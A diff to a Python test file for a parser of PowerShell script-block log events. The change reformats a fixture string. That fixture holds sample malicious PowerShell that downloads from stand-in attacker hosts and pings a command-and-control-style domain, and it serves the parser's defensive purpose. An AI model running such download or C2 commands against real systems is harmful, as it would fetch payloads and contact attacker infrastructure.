@@ -95,7 +95,8 @@ def test_data_as_a_list_of_names_and_values():
 
 def test_a_script_gives_its_first_url_and_mentions_the_others():
     event = parse({"EventID": 4104, "SourceName": "Microsoft-Windows-PowerShell", "Hostname": "PC-MINH",
-                   "ScriptBlockText": "iwr http://evil.example/a; iwr https://198.51.100.9/b; ping bot-c2.xyz"})  # fmt: skip
+                   "ScriptBlockText": ("iwr http://evil.example/a; iwr https://198.51.100.9/b; "
+                                       "ping bot-c2.xyz")})  # fmt: skip
     assert event.url == "http://evil.example/a"
     assert event.mentioned == ("https://198.51.100.9/b", "bot-c2.xyz")
 
